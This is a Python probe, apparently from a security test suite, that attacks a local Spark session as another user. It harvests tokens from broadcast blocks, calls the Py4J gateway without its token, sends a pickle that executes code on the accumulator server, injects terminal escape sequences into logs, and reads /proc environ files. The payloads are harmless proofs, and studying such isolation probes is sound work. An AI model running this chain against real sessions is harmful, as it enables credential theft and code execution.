"""What another user of the machine can do to a Spark session: a program of its own.

It needs nothing but Python, for the user who runs it may be able to read nothing else. Its argument
is JSON: ``ports``, ``sockets``, ``files`` and ``pids`` of the session, ``app``, its id, and
``proof``, a file that only the session's user can make. It prints what came of each attempt.
"""

from __future__ import annotations

import json
import os
import pickle
import re
import socket
import struct
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

_HOST = "127.0.0.1"
# Whoever has not answered by now takes what he was sent for something else.
_PATIENCE_S = 3
_LONGEST = 100_000_000
_CHUNK_REQUEST, _CHUNK, _RPC_REQUEST, _RPC_RESPONSE, _STREAM_REQUEST = 0, 1, 3, 4, 6
_MARK = "a stranger's object"


def fetch_blocks(port: int, app: str) -> list[bytes]:
    """Ask a block manager for what it has broadcast."""
    found = []
    for number in range(5):
        name = f"broadcast_{number}_piece0"
        names = struct.pack("!i", 1) + _text(name)
        opened = b"\0" + _text(app) + _text("driver") + names
        with socket.create_connection((_HOST, port), _PATIENCE_S) as link:
            link.sendall(_rpc(opened))
            kind, answer = _answer(link)
            if kind != _RPC_RESPONSE:
                continue
            (stream,) = struct.unpack("!q", answer[13:21])
            link.sendall(_frame(_CHUNK_REQUEST, struct.pack("!qi", stream, 0)))
            kind, answer = _answer(link)
            if kind == _CHUNK:
                found.append(answer)
    return found


def send_object(port: int) -> bool:
    """Let the driver take an object from us; whether one of its endpoints came to see it."""
    address = b"\1" + _short_text(_HOST) + struct.pack("!i", port)
    java_text = bytes.fromhex("aced000574") + _short_text(_MARK)
    with socket.create_connection((_HOST, port), _PATIENCE_S) as link:
        link.sendall(_rpc(b"\0" + address + _short_text("endpoint-verifier") + java_text))
        return _MARK.encode() in _answer(link)[1]


def scribble(port: int) -> None:
    """Ask for a stream whose name, quoted in a log, would change the title of a terminal."""
    with socket.create_connection((_HOST, port), _PATIENCE_S) as link:
        link.sendall(_frame(_STREAM_REQUEST, _text("\x1b]0;scribbled\x07")))
        _answer(link)


def command_java(port: int) -> bool:
    """Let the gateway call a method, without its token; whether it did."""
    with socket.create_connection((_HOST, port), _PATIENCE_S) as link:
        link.sendall(b"c\nz:java.lang.System\ncurrentTimeMillis\ne\n")
        return link.recv(100).startswith(b"!y")


def run_code(port: int, token: bytes, proof: str) -> bool:
    """Send the accumulators' server a pickle that makes a file; whether it was taken."""
    update = pickle.dumps((0, _MakeFile(proof)))
    with socket.create_connection((_HOST, port), _PATIENCE_S) as link:
        link.sendall(token + struct.pack("!ii", 1, len(update)) + update)
        return link.recv(1) == b"\1"


def enter(path: str) -> bool:
    """Connect to a socket of the file system."""
    with socket.socket(socket.AF_UNIX) as link:
        link.connect(path)
    return True


class _MakeFile:
    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (self._path, "w")


def _text(text: str) -> bytes:
    return struct.pack("!i", len(text)) + text.encode()


def _short_text(text: str) -> bytes:
    return struct.pack("!H", len(text)) + text.encode()


def _frame(kind: int, fields: bytes, body: bytes = b"") -> bytes:
    return struct.pack("!qb", 9 + len(fields) + len(body), kind) + fields + body


def _rpc(body: bytes) -> bytes:
    return _frame(_RPC_REQUEST, struct.pack("!qi", 7, len(body)), body)


def _answer(link: socket.socket) -> tuple[int, bytes]:
    with link.makefile("rb") as stream:
        size, kind = struct.unpack("!qb", stream.read(9))
        if not 0 < size < _LONGEST:
            raise OSError  # something else than Spark speaks there
        return kind, stream.read(size - 9)


def _attempt(function: object, *arguments: object) -> object:
    """Return what a function returns; nothing when it was refused."""
    try:
        return function(*arguments)  # type: ignore[operator]
    except (OSError, struct.error):
        return None


def _is_readable(path: str) -> bool:
    return bool(os.listdir(path) if Path(path).is_dir() else Path(path).read_bytes())  # noqa: PTH208


def main() -> None:
    """Try everything and print it as JSON."""
    given = json.loads(sys.argv[1])
    ports, proof = given["ports"], given["proof"]
    files = [f"/proc/{pid}/{name}" for pid in given["pids"] for name in ("environ", "fd", "maps")]
    with ThreadPoolExecutor(32) as pool:

        def each(things: list[object], function: object, *more: object) -> list[object]:
            answers = pool.map(lambda thing: _attempt(function, thing, *more), things)
            return [thing for thing, answer in zip(things, answers, strict=True) if answer]

        fetched = list(pool.map(lambda port: _attempt(fetch_blocks, port, given["app"]), ports))
        blocks = [block for found in fetched if isinstance(found, list) for block in found]
        tokens = {token for block in blocks for token in re.findall(rb"[0-9a-f]{64}", block)}
        outcome = {
            "uid": os.getuid(),
            "blocks": len(blocks),
            "tokens": len(tokens),
            "objects": each(ports, send_object),
            "commands": each(ports, command_java),
            "scribbled": each(ports, scribble),
            "code": [port for token in tokens for port in each(ports, run_code, token, proof)],
            "sockets": each(given["sockets"], enter),
            "files": each([*given["files"], *files], _is_readable),
        }
    sys.stdout.write(json.dumps(outcome))


if __name__ == "__main__":
    main()
